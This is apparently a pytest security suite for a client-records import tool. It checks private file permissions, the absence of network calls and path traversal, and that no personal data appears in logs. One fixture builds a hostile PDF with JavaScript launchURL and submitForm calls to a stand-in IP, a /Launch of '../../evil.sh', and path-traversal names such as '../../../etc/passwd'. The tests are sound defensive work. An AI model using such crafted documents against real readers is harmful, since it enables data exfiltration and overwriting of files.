"""Security and privacy: files readable by the user only, no network, no path from a
scan used as a path, no JavaScript or remote content from PDFs, no personal data in
logs."""

from __future__ import annotations

import json
import os
import sqlite3
import stat
import subprocess

import pytest

from tests.faults.helpers.badfiles import build_pdf
from tests.faults.helpers.cli import PYTHON, ROOT, cli_env, looks_clean, run_cli
from tests.faults.helpers.consistency import originals_root
from tests.faults.helpers.network import hook_dir, net_env, strace_hits, strace_prefix


def mode(path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_client_file_and_originals_are_private(tiny_folders, tmp_path):
    db = tmp_path / "klanten.sqlite"
    old = os.umask(0o022)  # the usual desktop umask: group and others may read
    try:
        run = run_cli("import", tiny_folders[0].folder, "--db", db, "--json")
        backup = run_cli("backup", tmp_path / "kopie.sqlite", "--db", db)
    finally:
        os.umask(old)
    assert run.returncode == 0 and backup.returncode == 0, run.stderr + backup.stderr
    for base in (db, tmp_path / "kopie.sqlite"):
        assert mode(base) == 0o600, base
        for side in (base.with_name(base.name + "-wal"), base.with_name(base.name + "-shm")):
            if side.exists():
                assert mode(side) == 0o600, side
        root = originals_root(base)
        assert mode(root) == 0o700, root
        for path in root.rglob("*"):
            assert mode(path) == (0o700 if path.is_dir() else 0o600), path


def js_pdf() -> bytes:
    """A text PDF that tries everything: JavaScript on open, a page action, a /URI link,
    a /Launch, a /SubmitForm to a remote server, and a title and embedded file name
    that are paths out of any folder."""
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R"
            b" /Names << /JavaScript << /Names [(x) 6 0 R] >>"
            b" /EmbeddedFiles << /Names [(../../evil.txt) 9 0 R] >> >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> >> /Annots [7 0 R]"
            b" /AA << /O 8 0 R >> >>",
            b"<< /Length 120 >>\nstream\nBT /F1 20 Tf 72 700 Td (Offerte zonnepanelen voor"
            b" de familie Beveiligd) Tj ET\nBT /F1 20 Tf 72 660 Td (Geen netwerk nodig) Tj ET"
            b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            b"<< /S /JavaScript /JS (app.launchURL\\('http://198.51.100.7/js'\\);"
            b" this.submitForm\\('http://198.51.100.7/f'\\);) >>",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842]"
            b" /A << /S /URI /URI (http://198.51.100.7/uri) >> >>",
            b"<< /S /Launch /F (../../evil.sh) /Next << /S /SubmitForm"
            b" /F << /FS /URL /F (http://198.51.100.7/submit) >> >> >>",
            b"<< /Type /Filespec /F (../../evil.txt) /UF (../../evil.txt) /EF << /F 10 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nevil\nendstream",
        ],
        trailer_extra=b"/Info << /Title (../../evil) /Author (../../../etc/passwd) >> ",
    )


@pytest.fixture
def hostile_inputs(tmp_path, tiny_folders):
    """A PDF with actions and hostile names, and scans whose own names contain '..'."""
    inbox = tmp_path / "inbox" / "deep"
    inbox.mkdir(parents=True)
    (inbox / "..evil...pdf").write_bytes(js_pdf())
    source = tiny_folders[0].files[0]
    (inbox / "..\\..\\evil.png").write_bytes(source.read_bytes())
    folder = tmp_path / "inbox" / "..klant.."
    folder.mkdir()
    (folder / "scan..png").write_bytes(tiny_folders[1].files[0].read_bytes())
    return [inbox / "..evil...pdf", inbox / "..\\..\\evil.png", folder]


def snapshot(root) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


def test_no_network_no_path_traversal(hostile_inputs, tmp_path, tesseract_available):
    """Import (with the hostile PDF and names) and search: no IPv4/IPv6 socket is ever
    opened, not by Python (audit hook in every process) nor by anything it starts
    (strace); nothing is written outside the client file and its originals folder."""
    work = tmp_path / "work"
    work.mkdir()
    db = work / "klanten.sqlite"
    net_log = tmp_path / "net.log"
    env = net_env(cli_env(), hook_dir(tmp_path / "hooks"), net_log)
    before = snapshot(tmp_path)
    trace = tmp_path / "strace.log"
    run = run_cli(
        "import", *hostile_inputs, "--db", db, "--json", env=env, prefix=strace_prefix(trace)
    )
    assert run.returncode == 0 and looks_clean(run.stderr), run.stderr
    report = json.loads(run.stdout)
    assert report["documents"] == 3, report
    search = run_cli("search", "zonnepanelen", "--db", db, "--json", env=env)
    assert search.returncode == 0, search.stderr
    assert len(json.loads(search.stdout)) == 1, "the PDF's text was read"

    assert not net_log.exists(), net_log.read_text()
    assert strace_hits(trace) == []
    new = snapshot(tmp_path) - before - {"net.log", "strace.log"}
    allowed = ("work/klanten.sqlite", "hooks/__pycache__")
    assert sorted(p for p in new if not p.startswith(allowed)) == []
    assert not list(tmp_path.parent.glob("evil*")) and not list(tmp_path.glob("evil*"))


def test_the_network_check_can_fail(tmp_path):
    """Positive control: a process that does try to connect is caught by both checks."""
    net_log = tmp_path / "net.log"
    env = net_env(cli_env(), hook_dir(tmp_path / "hooks"), net_log)
    trace = tmp_path / "strace.log"
    code = (
        "import socket\n"
        "try:\n"
        "    socket.create_connection(('192.0.2.1', 9), 0.2)\n"
        "except OSError:\n"
        "    pass\n"
    )
    subprocess.run(
        [*strace_prefix(trace), PYTHON, "-c", code], env=env, cwd=ROOT, check=False, timeout=60
    )
    assert "socket.connect" in net_log.read_text()
    if strace_prefix(trace):
        assert strace_hits(trace)


def test_no_personal_data_in_logs(tiny_folders, tmp_path):
    """import_log rows, stderr of an import and any file the run writes in the user's
    home (logs, caches) hold no name, phone number or e-mail of the clients."""
    home = tmp_path / "home"
    home.mkdir()
    env = cli_env(
        {
            "HOME": str(home),
            "XDG_DATA_HOME": str(home / "data"),
            "XDG_STATE_HOME": str(home / "state"),
            "XDG_CACHE_HOME": str(home / "cache"),
            "XDG_CONFIG_HOME": str(home / "config"),
        }
    )
    db = tmp_path / "klanten.sqlite"
    run = run_cli("import", *(f.folder for f in tiny_folders), "--db", db, "--json", env=env)
    assert run.returncode == 0 and json.loads(run.stdout)["errors"] == [], run.stderr
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        log_rows = [" ".join(map(str, row)) for row in conn.execute("SELECT * FROM import_log")]
    finally:
        conn.close()
    assert log_rows, "the import writes an import log"
    texts = {"stderr": run.stderr, "import_log": "\n".join(log_rows)}
    for path in home.rglob("*"):
        if path.is_file():
            texts[str(path.relative_to(home))] = path.read_text(errors="replace")
    leaks = [
        (where, value)
        for folder in tiny_folders
        for value in folder.personal_strings()
        for where, text in texts.items()
        if value.casefold() in text.casefold()
    ]
    assert leaks == []
